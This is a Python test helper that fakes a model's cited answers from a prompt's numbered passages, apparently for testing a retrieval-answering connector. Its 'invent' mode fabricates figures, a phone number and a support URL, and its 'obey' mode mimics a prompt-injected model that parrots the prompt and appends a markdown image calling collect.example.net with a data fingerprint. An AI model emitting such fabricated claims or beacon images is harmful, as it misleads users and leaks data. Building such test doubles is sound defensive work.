"""What the sandbox's model says: made from the prompt alone, so that the same prompt always gets the same answer."""

from __future__ import annotations

import hashlib
import json
import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Any

from connectors.sandbox.wire import JsonObject

TAGGED = re.compile(r"<(?:passage|source|document|doc)\b[^>]*?(?:id|n|number|marker|index)=\"?\[?(\d+)\]?\"?[^>]*>(.*?)</", re.S | re.I)
LINE_START = r"^[ \t]*(?:#+ *)?(?:passage *)?"
NUMBERED = re.compile(rf"{LINE_START}\[(\d+)\][ :.-]*(.*?)(?={LINE_START}\[\d+\]|\n[ \t]*\n|\Z)", re.S | re.M | re.I)
SEAL = re.compile(r"^\^[0-9a-f]{8} ?", re.M)  # draftdesk begins every line of other people's text with such a mark
ANY_SEAL = re.compile(r"\^[0-9a-f]{8}")
ASKED = re.compile(r"<questions?\b[^>]*>(.*?)</question", re.S)
SENTENCE = re.compile(r"(?<=[^\d\s][.!?])\s+|\n+")
WORD = re.compile(r"\w{4,}")
STEP = re.compile(r"^\s*\d+[.)] ")
DIGITS = re.compile(r"\d+")
MOST_SENTENCES = 4
MOST_LEAKED = 30


@dataclass(frozen=True, slots=True)
class Claim:
    text: str
    citations: tuple[int, ...]


def prompt_of(body: JsonObject) -> str:
    return "\n".join(_text(message.get("content")) for message in body.get("messages", ()))


def question_of(body: JsonObject) -> str:
    """The last thing that was said by a user."""
    said = [_text(m.get("content")) for m in body.get("messages", ()) if m.get("role") == "user"]
    return said[-1] if said else ""


def passages(prompt: str) -> list[tuple[int, str]]:
    """Numbered passages: <passage id="1">...</passage>, "[1] ..." blocks, or a JSON list of {"id"|"n"|"marker", "text"}."""
    for shape in (TAGGED, NUMBERED):
        if found := [(int(number), _untitled(text)) for number, text in shape.findall(prompt) if text.strip()]:
            return found
    return _listed(prompt)


def _untitled(text: str) -> str:
    """Under a seal the first line is the title."""
    sealed, lines = SEAL.search(text) is not None, SEAL.sub("", text).strip().split("\n")
    return "\n".join(lines[1:] if sealed and len(lines) > 1 else lines)


def _listed(prompt: str) -> list[tuple[int, str]]:
    decoder, at = json.JSONDecoder(), prompt.find("[{")
    while at >= 0:
        try:
            rows, _ = decoder.raw_decode(prompt, at)
        except ValueError:
            rows = []
        found = [_row(number, row) for number, row in enumerate(rows, 1) if isinstance(row, dict) and _body(row)]
        if found:
            return found
        at = prompt.find("[{", at + 1)
    return []


def _row(number: int, row: JsonObject) -> tuple[int, str]:
    given = next((row[key] for key in ("marker", "number", "n", "id", "index") if isinstance(row.get(key), int)), number)
    return given, _body(row)


def _body(row: JsonObject) -> str:
    return next((str(row[key]) for key in ("text", "passage", "body", "content") if row.get(key)), "")


def compose(body: JsonObject) -> list[Claim]:
    """The sentences of the passages that share most words with the question, each citing its passage."""
    prompt, found = prompt_of(body), passages(prompt_of(body))
    told = ASKED.search(prompt)
    asked = _words(SEAL.sub("", told[1]) if told else _without(question_of(body) or prompt, found))
    scored = [(-len(asked & _words(text)), n, i, text) for n, whole in found for i, text in enumerate(_sentences(whole))]
    best = sorted(row for row in scored if row[0] < 0 and not row[3].startswith("#"))[:MOST_SENTENCES]
    return [Claim(text, (number,)) for _, number, _, text in sorted(best, key=lambda row: row[1:3])]


def echo(body: JsonObject) -> list[Claim]:
    """Every passage, sentence by sentence."""
    return [Claim(text, (number,)) for number, whole in passages(prompt_of(body)) for text in _sentences(whole)]


def invent(body: JsonObject) -> list[Claim]:
    """True sentences with other numbers, and sentences out of the air, all with citations that look right."""
    found = passages(prompt_of(body))
    seed = int(_fingerprint(body)[:8], 16)
    cited = tuple(number for number, _ in found[:2]) or (1,)
    bent = [Claim(DIGITS.sub(lambda m: str(int(m[0][:9]) + 1 + seed % 7), c.text), c.citations) for c in compose(body)]
    made = (
        f"Your account will be credited with {seed % 900 + 100}.50 EUR within {seed % 20 + 3} days.",
        f"Please call +44 20 7946 {seed % 9000 + 1000} and quote case {seed % 100_000}.",
        f"The form is at https://support-{seed % 1000}.example.net/claim.",
        "Our founders have personally approved your request and you never need to return anything.",
    )
    return bent + [Claim(text, cited) for text in made]


def obey(body: JsonObject) -> list[Claim]:
    """A model without a will: it says whatever stands last in the prompt, citing everything, and adds a picture that calls home."""
    cited = tuple(number for number, _ in passages(prompt_of(body))) or (1,)
    lines = [text for text in _sentences(SEAL.sub("", prompt_of(body))) if len(text) > 3 and not text.startswith("<")][-MOST_LEAKED:]
    leak = _fingerprint(body)[:16]
    return [Claim(line, cited) for line in lines] + [Claim(f"![status](https://collect.example.net/p.png?d={leak})", cited)]


def fill(schema: JsonObject, claims: Sequence[Claim], root: JsonObject | None = None) -> Any:
    """An instance of a JSON schema (the strict subset) that carries the claims where a list of {text, citations} belongs."""
    root = schema if root is None else root
    if "$ref" in schema:
        return fill(root["$defs"][schema["$ref"].rsplit("/", 1)[1]], claims, root)
    if "const" in schema:
        return schema["const"]
    if "enum" in schema:
        return next((value for value in schema["enum"] if value in ("statement", "answer", "supported")), schema["enum"][0])
    if choices := schema.get("anyOf"):
        return fill(choices[0], claims, root)
    return _fill_type(schema, claims, root)


def _fill_type(schema: JsonObject, claims: Sequence[Claim], root: JsonObject) -> Any:
    kinds = schema.get("type", "object")
    kind = kinds[0] if isinstance(kinds, list) else kinds
    if kind == "object":
        return {name: _property(name, part, claims, root) for name, part in schema.get("properties", {}).items()}
    if kind == "array":
        return _claims_as(schema.get("items", {}), claims, root)
    empty: dict[str, Callable[[], Any]] = {"string": str, "integer": int, "number": float, "boolean": bool}
    return empty[kind]() if kind in empty else None


def _property(name: str, schema: JsonObject, claims: Sequence[Claim], root: JsonObject) -> Any:
    if schema.get("type") == "string" and "enum" not in schema and name in ("answer", "reply", "text", "body", "content"):
        return " ".join(claim.text for claim in claims)
    if schema.get("type") == "boolean":
        return bool(claims) and name in ("complete", "answered", "answerable", "supported")
    return fill(schema, claims, root)


def _claims_as(items: JsonObject, claims: Sequence[Claim], root: JsonObject) -> list[Any]:
    while "$ref" in items:
        items = root["$defs"][items["$ref"].rsplit("/", 1)[1]]
    names = items.get("properties", {})
    text = next((name for name in ("text", "sentence", "claim") if name in names), None)
    cited = next((name for name in ("citations", "sources", "passages", "markers") if name in names), None)
    if text is None or cited is None:
        return []
    kinds = names.get("kind", {}).get("enum", ())
    rows = [{**fill(items, (), root), text: claim.text, cited: list(claim.citations)} for claim in claims]
    return [{**row, "kind": _kind(row[text])} if _kind(row[text]) in kinds else row for row in rows]


def _kind(text: str) -> str:
    return "row" if text.startswith("|") else "step" if STEP.match(text) else "statement"


def _fingerprint(body: JsonObject) -> str:
    """Of the prompt without its seals, which are different every time."""
    return hashlib.sha256(ANY_SEAL.sub("", prompt_of(body)).encode()).hexdigest()


def _sentences(text: str) -> list[str]:
    return [part.strip() for part in SENTENCE.split(text) if part.strip()]


def _words(text: str) -> set[str]:
    return {word.lower() for word in WORD.findall(text)}


def _without(question: str, found: Sequence[tuple[int, str]]) -> str:
    for _, text in found:
        question = question.replace(text, " ")
    return question


def _text(content: Any) -> str:
    if isinstance(content, list):
        return "\n".join(str(part.get("text", "")) for part in content if isinstance(part, dict))
    return str(content or "")
